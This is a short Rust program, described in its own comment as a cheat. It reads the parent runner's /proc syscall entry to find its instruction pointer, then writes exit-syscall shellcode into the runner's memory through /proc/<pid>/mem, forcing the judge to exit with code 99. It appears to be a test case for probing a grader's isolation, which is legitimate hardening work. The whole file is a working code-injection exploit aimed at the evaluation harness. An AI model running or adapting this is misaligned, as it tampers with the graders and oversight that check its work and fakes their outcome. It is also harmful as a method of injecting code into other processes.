//! A cheat: writes into the memory of the runner that called it, so that it ends with 99, "the judge broke".

use std::fs;
use std::os::unix::fs::FileExt;
use std::process::exit;

/// mov $231, %eax; mov $99, %edi; syscall
const EXIT_99: [u8; 12] = [0xb8, 231, 0, 0, 0, 0xbf, 99, 0, 0, 0, 0x0f, 0x05];

fn main() {
    let runner = std::os::unix::process::parent_id();
    std::thread::sleep(std::time::Duration::from_millis(50)); // until it waits for us
    let waits = fs::read_to_string(format!("/proc/{}/syscall", runner)).unwrap_or_default();
    let place = waits.split_whitespace().last().and_then(|word| u64::from_str_radix(&word[2..], 16).ok());
    let memory = fs::OpenOptions::new().write(true).open(format!("/proc/{}/mem", runner));
    match (place, memory) {
        (Some(place), Ok(memory)) => match memory.write_all_at(&EXIT_99, place) {
            Ok(()) => eprintln!("error: written"),
            Err(error) => eprintln!("error: memory: {}", error),
        },
        (place, memory) => eprintln!("error: runner: {:?} {:?}", place, memory.map(|_| ())),
    }
    exit(1);
}
